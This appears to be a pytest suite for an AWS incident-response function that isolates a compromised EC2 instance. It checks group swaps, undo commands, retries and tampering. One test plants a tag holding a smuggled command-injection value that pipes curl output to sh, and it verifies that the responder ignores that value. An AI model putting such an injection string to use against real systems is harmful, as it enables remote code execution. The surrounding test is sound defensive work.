"""isolate_instance against moto: interfaces, groups, rules and tags are read back from EC2."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError
from moto import mock_aws

from common.aws import client
from drill import moto_quirks
from isolate_instance import handler
from isolate_instance.actions import (
    ISOLATION_GROUP,
    ORIGINAL_TAG,
    PURPOSE_TAG,
    TAG_VALUE_LIMIT,
    UNTRACK_GROUP,
    isolate_instance,
    original_groups_tags,
    read_original_groups,
)
from tests.factories import exfiltration_incident

REGION = "ap-northeast-1"
ACCOUNT = "123456789012"


make_incident = exfiltration_incident
INCIDENT = make_incident()["incident_id"]


def mocked(monkeypatch: pytest.MonkeyPatch, *, quirks: bool) -> ExitStack:
    monkeypatch.delenv("DRY_RUN", raising=False)
    monkeypatch.delenv("EXEMPT_INSTANCE_IDS", raising=False)
    monkeypatch.setenv("AWS_DEFAULT_REGION", REGION)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    stack = ExitStack()
    stack.enter_context(mock_aws())
    if quirks:
        stack.enter_context(moto_quirks.aws_semantics())
    return stack


@pytest.fixture
def ec2(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    with mocked(monkeypatch, quirks=True):
        yield boto3.client("ec2", region_name=REGION)
    client.cache_clear()


@dataclass
class Host:
    instance_id: str
    eni_web: str
    eni_db: str
    vpc_web: str
    vpc_db: str
    web_groups: list[str]
    db_groups: list[str]


def two_vpc_host(ec2: Any) -> Host:
    """An instance whose primary interface is in one VPC and a second interface in another."""
    vpc_web = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    vpc_db = ec2.create_vpc(CidrBlock="10.1.0.0/16")["Vpc"]["VpcId"]
    subnet_web = ec2.create_subnet(VpcId=vpc_web, CidrBlock="10.0.1.0/24", AvailabilityZone=f"{REGION}a")
    subnet_db = ec2.create_subnet(VpcId=vpc_db, CidrBlock="10.1.1.0/24", AvailabilityZone=f"{REGION}a")
    web_groups = [
        ec2.create_security_group(GroupName=name, Description=name, VpcId=vpc_web)["GroupId"] for name in ("web", "ssh")
    ]
    db_groups = [ec2.create_security_group(GroupName="db", Description="db", VpcId=vpc_db)["GroupId"]]
    instance = ec2.run_instances(
        ImageId="ami-12c6146b",
        MinCount=1,
        MaxCount=1,
        SubnetId=subnet_web["Subnet"]["SubnetId"],
        SecurityGroupIds=web_groups,
    )
    instance_id = instance["Instances"][0]["InstanceId"]
    eni_web = instance["Instances"][0]["NetworkInterfaces"][0]["NetworkInterfaceId"]
    eni_db = ec2.create_network_interface(SubnetId=subnet_db["Subnet"]["SubnetId"], Groups=db_groups)[
        "NetworkInterface"
    ]["NetworkInterfaceId"]
    ec2.attach_network_interface(NetworkInterfaceId=eni_db, InstanceId=instance_id, DeviceIndex=1)
    return Host(instance_id, eni_web, eni_db, vpc_web, vpc_db, web_groups, db_groups)


def eni_groups(ec2: Any, eni: str) -> list[str]:
    interface = ec2.describe_network_interfaces(NetworkInterfaceIds=[eni])["NetworkInterfaces"][0]
    return sorted(group["GroupId"] for group in interface["Groups"])


def groups_named(ec2: Any, vpc: str, name: str) -> list[str]:
    return [
        group["GroupId"]
        for group in ec2.describe_security_groups(
            Filters=[{"Name": "vpc-id", "Values": [vpc]}, {"Name": "group-name", "Values": [name]}]
        )["SecurityGroups"]
    ]


def rules(ec2: Any, group: str) -> list[dict[str, Any]]:
    return ec2.describe_security_group_rules(Filters=[{"Name": "group-id", "Values": [group]}])["SecurityGroupRules"]


def instance_tags(ec2: Any, instance_id: str) -> dict[str, str]:
    tags = ec2.describe_tags(Filters=[{"Name": "resource-id", "Values": [instance_id]}])["Tags"]
    return {tag["Key"]: tag["Value"] for tag in tags}


def test_every_interface_in_two_vpcs_gets_only_a_ruleless_isolation_group(ec2: Any) -> None:
    host = two_vpc_host(ec2)

    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
    [isolation_db] = groups_named(ec2, host.vpc_db, ISOLATION_GROUP)
    assert eni_groups(ec2, host.eni_web) == [isolation_web]
    assert eni_groups(ec2, host.eni_db) == [isolation_db]
    assert rules(ec2, isolation_web) == [] and rules(ec2, isolation_db) == []
    originals = {host.eni_web: host.web_groups, host.eni_db: host.db_groups}
    assert json.loads(instance_tags(ec2, host.instance_id)[ORIGINAL_TAG]) == {"incident": INCIDENT, "groups": originals}
    assert result["status"] == "done"
    assert result["containment"] is False
    assert result["data"] == {
        "incident_id": INCIDENT,
        "original_groups": originals,
        "isolation_groups": {host.vpc_web: isolation_web, host.vpc_db: isolation_db},
    }


def test_interfaces_pass_through_an_all_open_group_first(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    calls: list[tuple[str, list[str]]] = []
    recording = RecordingModify(ec2, calls)

    isolate_instance(recording, host.instance_id, REGION, incident_id=INCIDENT)

    [untrack_web] = groups_named(ec2, host.vpc_web, UNTRACK_GROUP)
    [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
    assert [groups for eni, groups in calls if eni == host.eni_web] == [[untrack_web], [isolation_web]]
    # Open for the swaps only: at rest the all-open group carries no rules.
    assert rules(ec2, untrack_web) == []


def test_rerun_is_already_done_creates_no_second_group_and_keeps_the_originals(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    first = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
    tags_after_first = instance_tags(ec2, host.instance_id)

    again = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert again["status"] == "already-done"
    assert len(groups_named(ec2, host.vpc_web, ISOLATION_GROUP)) == 1
    assert len(groups_named(ec2, host.vpc_db, ISOLATION_GROUP)) == 1
    assert instance_tags(ec2, host.instance_id) == tags_after_first
    assert again["data"] == first["data"]
    assert again["undo"] == first["undo"]


def test_rule_added_to_the_isolation_group_is_removed_on_rerun(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
    [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
    ec2.authorize_security_group_ingress(
        GroupId=isolation_web,
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )

    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert result["status"] == "done"
    assert rules(ec2, isolation_web) == []


def test_undo_restores_the_original_groups(ec2: Any) -> None:
    host = two_vpc_host(ec2)

    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert result["undo"] == " && ".join(
        f"aws ec2 modify-network-interface-attribute --region {REGION} --network-interface-id {eni} --groups "
        + " ".join(groups)
        for eni, groups in sorted({host.eni_web: host.web_groups, host.eni_db: host.db_groups}.items())
    )


def test_a_failed_final_swap_never_leaves_the_all_open_group(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    isolation = ec2.create_security_group(
        GroupName=ISOLATION_GROUP,
        Description="x",
        VpcId=host.vpc_web,
        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": "isolation"}]}],
    )["GroupId"]

    result = isolate_instance(FailingSwapTo(ec2, isolation), host.instance_id, REGION, incident_id=INCIDENT)

    assert result["status"] == "failed"
    assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)
    [untrack_web] = groups_named(ec2, host.vpc_web, UNTRACK_GROUP)
    assert rules(ec2, untrack_web) == []


def test_terminated_instance_is_skipped(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    ec2.terminate_instances(InstanceIds=[host.instance_id])

    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert (result["status"], result["detail"]) == ("skipped", "instance is gone (terminated)")
    assert groups_named(ec2, host.vpc_web, ISOLATION_GROUP) == []


def test_unknown_instance_is_skipped(ec2: Any) -> None:
    result = isolate_instance(ec2, "i-0123456789abcdef0", REGION, incident_id=INCIDENT)

    assert (result["status"], result["detail"]) == ("skipped", "instance is gone (terminated)")


def test_dry_run_changes_nothing(ec2: Any, lambda_context: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DRY_RUN", "true")
    host = two_vpc_host(ec2)

    output = handler.handler({"incident": make_incident(instance_id=host.instance_id)}, lambda_context)

    assert output["steps"][0]["status"] == "skipped"
    assert output["steps"][0]["detail"].startswith("dry-run: would move 2 of 2 interface(s)")
    assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)
    assert eni_groups(ec2, host.eni_db) == host.db_groups
    assert groups_named(ec2, host.vpc_web, ISOLATION_GROUP) == []
    assert groups_named(ec2, host.vpc_web, UNTRACK_GROUP) == []
    assert ORIGINAL_TAG not in instance_tags(ec2, host.instance_id)


def test_handler(ec2: Any, lambda_context: Any) -> None:
    host = two_vpc_host(ec2)

    output = handler.handler({"incident": make_incident(instance_id=host.instance_id)}, lambda_context)

    [result] = output["steps"]
    assert (result["name"], result["status"]) == ("isolate-instance", "done")
    assert eni_groups(ec2, host.eni_db) == groups_named(ec2, host.vpc_db, ISOLATION_GROUP)
    json.dumps(output)


def test_handler_skips_an_incident_without_instance(ec2: Any, lambda_context: Any) -> None:
    output = handler.handler({"incident": make_incident()}, lambda_context)

    assert output["steps"][0]["status"] == "skipped"


def test_original_groups_longer_than_one_tag_round_trip() -> None:
    originals = {f"eni-{n:017x}": [f"sg-{n:04x}{m:013x}" for m in range(5)] for n in range(4)}

    tags = original_groups_tags(originals, INCIDENT)

    assert len(tags) > 1
    assert all(len(tag["Value"]) <= TAG_VALUE_LIMIT for tag in tags)
    assert read_original_groups(list(reversed(tags)), INCIDENT) == (originals, None)
    # Another incident's copy (or one the attacker wrote) is not trusted.
    copy, why = read_original_groups(tags, "123456789012:guardduty:other")
    assert copy == {} and "does not carry this incident's id" in why


def test_without_the_moto_patch_the_read_back_catches_motos_group_union(monkeypatch: pytest.MonkeyPatch) -> None:
    """The product checks AWS semantics (groups == [isolation]); moto's union makes that fail.

    If this starts passing as "done", moto was fixed and moto_quirks.eni_groups_are_their_own can go.
    """
    with mocked(monkeypatch, quirks=False):
        ec2 = boto3.client("ec2", region_name=REGION)
        host = two_vpc_host(ec2)

        result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert result["status"] == "failed"
    assert result["detail"].startswith("read back:")


class RecordingModify:
    def __init__(self, inner: Any, calls: list[tuple[str, list[str]]]) -> None:
        self._inner, self._calls = inner, calls

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)

    def modify_network_interface_attribute(self, **kwargs: Any) -> Any:
        self._calls.append((kwargs["NetworkInterfaceId"], kwargs["Groups"]))
        return self._inner.modify_network_interface_attribute(**kwargs)


class FailingSwapTo:
    """EC2 refuses the move to one group (a throttle that outlived the retries, say)."""

    def __init__(self, inner: Any, group: str) -> None:
        self._inner, self._group = inner, group

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)

    def modify_network_interface_attribute(self, **kwargs: Any) -> Any:
        if kwargs["Groups"] == [self._group]:
            raise ClientError(
                {"Error": {"Code": "RequestLimitExceeded", "Message": "slow down"}}, "ModifyNetworkInterfaceAttribute"
            )
        return self._inner.modify_network_interface_attribute(**kwargs)


class TimesOutOnSwapTo(FailingSwapTo):
    """The call to the isolation group dies without an AWS answer (a read timeout, the function's end)."""

    def modify_network_interface_attribute(self, **kwargs: Any) -> Any:
        if kwargs["Groups"] == [self._group]:
            raise RuntimeError("the function stopped here")
        return self._inner.modify_network_interface_attribute(**kwargs)


def tagged_group(ec2: Any, vpc: str, name: str, purpose: str) -> str:
    return ec2.create_security_group(
        GroupName=name,
        Description=name,
        VpcId=vpc,
        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": purpose}]}],
    )["GroupId"]


def test_any_exception_between_the_swaps_restores_and_closes_the_all_open_group(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    isolation = tagged_group(ec2, host.vpc_web, ISOLATION_GROUP, "isolation")

    with pytest.raises(RuntimeError):
        isolate_instance(TimesOutOnSwapTo(ec2, isolation), host.instance_id, REGION, incident_id=INCIDENT)

    [untrack_web] = groups_named(ec2, host.vpc_web, UNTRACK_GROUP)
    assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)
    assert rules(ec2, untrack_web) == []
    # The retry finishes the job from the copy of this incident.
    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
    assert result["status"] == "done"
    assert result["data"]["original_groups"][host.eni_web] == host.web_groups


def test_an_interface_left_on_the_all_open_group_is_fixed_first(ec2: Any) -> None:
    """What a Lambda timeout between the swaps leaves behind: no `finally` ran."""
    host = two_vpc_host(ec2)
    untrack = tagged_group(ec2, host.vpc_web, UNTRACK_GROUP, "untrack")
    ec2.authorize_security_group_ingress(
        GroupId=untrack, IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    )
    ec2.create_tags(Resources=[host.instance_id], Tags=original_groups_tags({host.eni_web: host.web_groups}, INCIDENT))
    ec2.modify_network_interface_attribute(NetworkInterfaceId=host.eni_web, Groups=[untrack])
    calls: list[tuple[str, list[str]]] = []

    result = isolate_instance(RecordingModify(ec2, calls), host.instance_id, REGION, incident_id=INCIDENT)

    [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
    assert calls[0] == (host.eni_web, [isolation_web])  # straight to isolation, before anything else
    assert eni_groups(ec2, host.eni_web) == [isolation_web]
    assert rules(ec2, untrack) == []
    assert result["status"] == "done" and "earlier attempt" in result["detail"]
    assert result["data"]["original_groups"][host.eni_web] == host.web_groups


def test_a_tag_the_attacker_wrote_is_never_trusted(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    planted = json.dumps({host.eni_web: ["sg-1;curl${IFS}evil|sh"], "eni-0123456789abcdef0": host.db_groups})
    ec2.create_tags(Resources=[host.instance_id], Tags=[{"Key": ORIGINAL_TAG, "Value": planted}])

    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert result["status"] == "done"
    assert result["data"]["original_groups"] == {host.eni_web: host.web_groups, host.eni_db: host.db_groups}
    assert (
        "curl" not in result["undo"] and "original-sgs does not carry this incident's id: ignored" in result["detail"]
    )
    # The responder's own copy replaced the planted one.
    copy = json.loads(instance_tags(ec2, host.instance_id)[ORIGINAL_TAG])
    assert copy["incident"] == INCIDENT


def test_a_group_with_the_responders_name_but_not_its_tag_is_never_used(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    ec2.create_security_group(GroupName=UNTRACK_GROUP, Description="planted", VpcId=host.vpc_web)

    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)

    assert result["status"] == "failed" and "lacks the tag" in result["detail"]
    assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)


def test_the_undo_command_quotes_every_value(ec2: Any) -> None:
    host = two_vpc_host(ec2)
    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
    for command in result["undo"].split(" && "):
        words = shlex.split(command)
        assert words[:3] == ["aws", "ec2", "modify-network-interface-attribute"]
        assert all(word.startswith(("sg-", "eni-", "--", "aws", "ec2", "modify", REGION)) for word in words)
